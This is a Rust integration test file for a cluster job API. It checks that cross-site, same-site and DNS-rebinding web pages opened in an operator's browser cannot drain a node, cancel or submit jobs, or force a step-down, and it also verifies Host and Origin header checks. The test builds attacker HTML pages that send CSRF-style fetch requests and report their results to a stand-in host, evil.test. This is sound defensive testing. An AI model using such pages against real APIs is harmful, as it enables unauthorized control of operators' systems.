//! A web page in an operator's browser is not a client. A real browser shows three hostile pages and one that the operator
//! allowed:
//!
//! ```text
//!   evil.test:E    another site                       cross-site requests
//!   127.0.0.1:E    another port of the same address   same-site requests
//!   rebind.test:A  a name whose address changes       "same-origin" requests, by DNS rebinding
//!   grid.test:A    given by --allow-host              taken, if they say that they are JSON
//! ```
//!
//! E is a port of the attacker, A that of the API. The names of the last two point to a server that shows the page and passes
//! everything else on to the API, which is what a browser sees of a name whose address has changed.

use grid_testkit::spec::{job, sleep};
use grid_testkit::{Browser, Cluster, LIMIT, Site, ensure, free_port, wait_until};

/// Sends every request in turn, records how each was answered, and opens the next page.
fn page(requests: &str, report: &str, next: &str) -> String {
    format!(
        r#"<!doctype html><title>a page</title><script>
const asks = {requests};
async function go() {{
  const seen = [];
  for (const [url, options] of asks) {{
    try {{ seen.push((await fetch(url, {{cache: "no-store", ...options}})).status); }} catch (e) {{ seen.push("error"); }}
  }}
  const form = document.createElement("form");
  form.method = "post"; form.target = "hidden"; form.action = asks[0][0];
  const frame = document.createElement("iframe");
  frame.name = "hidden"; frame.onload = () => {{ frame.onload = null; done(seen); }};
  document.body.append(frame, form);
  form.submit();
}}
async function done(seen) {{
  await fetch("{report}" + seen.join(","), {{mode: "no-cors", cache: "no-store"}}).catch(() => 0);
  location = "{next}";
}}
addEventListener("load", go);
</script><body>"#
    )
}

#[test]
fn issue13_a_web_page_cannot_drain_cancel_step_down_or_submit() {
    let cluster = Cluster::start_with("--allow-host grid.test", &[("web-01", "")]);
    let api = cluster.api();
    let id = api.submit(&job("all", [sleep("250s")]));
    api.wait_job(&id, "running", |job| job.count("running") == 1);
    let role = api.get("/role").json();
    let (port, evil) = (cluster.server.api_port(), free_port());

    // Requests that a page can send without a preflight: no body, or one without a type.
    let attacks = |base: &str, mode: &str| {
        let submit = r#"new Blob(['{"target":{"scope":"all"},"tasks":[{"backend":"ping","action":"echo"}]}'])"#;
        format!(
            r#"[["{base}/node/web-01/drain", {{method: "POST", mode: "{mode}"}}],
                ["{base}/job/{id}/cancel", {{method: "POST", mode: "{mode}"}}],
                ["{base}/api/v1/cluster/step-down", {{method: "POST", mode: "{mode}"}}],
                ["{base}/job", {{method: "POST", mode: "{mode}", body: {submit}}}],
                ["{base}/job/{id}", {{mode: "{mode}"}}]]"#
        )
    };
    let typed = r#"{method: "POST", headers: {"content-type": "application/json"}, body: '{"target":{"scope":"all"},"tasks":[]}'}"#;
    let own = format!(
        r#"[["/node/web-01/drain", {{method: "POST"}}], ["/job", {typed}],
            ["/node/web-01/undrain", {{method: "POST", headers: {{"x-grid-page": "1"}}}}], ["/job/{id}", {{}}]]"#
    );
    let api_url = format!("http://127.0.0.1:{port}");
    let report = |page: &str| format!("http://evil.test:{evil}/report/{page}/");
    let cross_site = page(&attacks(&api_url, "no-cors"), &report("cross"), &format!("http://127.0.0.1:{evil}/port"));
    let same_site = page(&attacks(&api_url, "no-cors"), &report("port"), &format!("http://rebind.test:{port}/attack"));
    let rebound = page(&attacks("", "same-origin"), &report("rebound"), &format!("http://grid.test:{port}/own"));
    let allowed = page(&own, &report("own"), "about:blank");

    let attacker = Site::serve(("127.0.0.1", evil), None, &[("/", cross_site), ("/port", same_site)]);
    let _switch = Site::serve(("127.0.0.2", port), Some(port), &[("/attack", rebound), ("/own", allowed)]);
    let names = [("evil.test", "127.0.0.1"), ("rebind.test", "127.0.0.2"), ("grid.test", "127.0.0.2")];
    let _browser = Browser::open(&format!("http://evil.test:{evil}/"), &names);

    let said = |page: &str| {
        let asked = attacker.asked();
        let prefix = format!("/report/{page}/");
        let found = asked.iter().find_map(|path| path.strip_prefix(&prefix)).map(str::to_owned);
        found.ok_or_else(|| format!("{asked:?}"))
    };
    for page in ["cross", "port"] {
        // Opaque: the browser keeps the answers from the page.
        assert_eq!(wait_until(page, LIMIT, || said(page)), "0,0,0,0,0");
    }
    assert_eq!(wait_until("the rebound page", LIMIT, || said("rebound")), "421,421,421,421,421");
    assert_eq!(wait_until("the page of an allowed host", LIMIT, || said("own")), "403,422,200,200");

    assert_eq!(api.get("/role").json(), role, "nobody stepped down");
    assert_eq!(api.try_node("web-01").expect("the node")["state"], "ready", "nobody drained it");
    assert_eq!(api.job(&id).status(), "running", "nobody cancelled it");
    assert_eq!(api.get("/jobs").json().as_array().map(Vec::len), Some(1), "nobody submitted anything");
    wait_until("an end", LIMIT, || ensure(api.cancel(&id).status == 200, "not cancelled"));
}

#[test]
fn issue13_clients_that_are_no_browsers_need_only_a_known_host() {
    let cluster = Cluster::start_with("--allow-host grid.test:8443", &[]);
    let api = cluster.api();
    for (host, status) in [("localhost", 200), ("grid.test", 200), ("[::1]:80", 200), ("evil.test", 421), ("", 421)] {
        let answer = api.request(grid_testkit::Method::GET, "/role", &[("host", host)], None).expect("an answer");
        assert_eq!(answer.status, status, "{host}: {answer:?}");
        if status == 421 {
            assert_eq!(answer.error(), "WRONG_HOST");
            assert!(answer.text.contains("--allow-host"), "{answer:?}");
        }
    }
    let drain = "/node/web-01/drain";
    for (headers, status) in [
        (&[][..], 404),
        (&[("origin", "http://evil.test")], 403),
        (&[("origin", "null")], 403),
        (&[("sec-fetch-site", "cross-site")], 403),
        (&[("sec-fetch-site", "same-site")], 403),
        (&[("sec-fetch-site", "same-origin")], 403),
        (&[("sec-fetch-site", "same-origin"), ("x-grid-page", "1")], 404),
        (&[("origin", "https://grid.test:8443"), ("content-type", "application/json")], 404),
    ] {
        let answer = api.request(grid_testkit::Method::POST, drain, headers, None).expect("an answer");
        assert_eq!(answer.status, status, "{headers:?}: {answer:?}");
    }
}
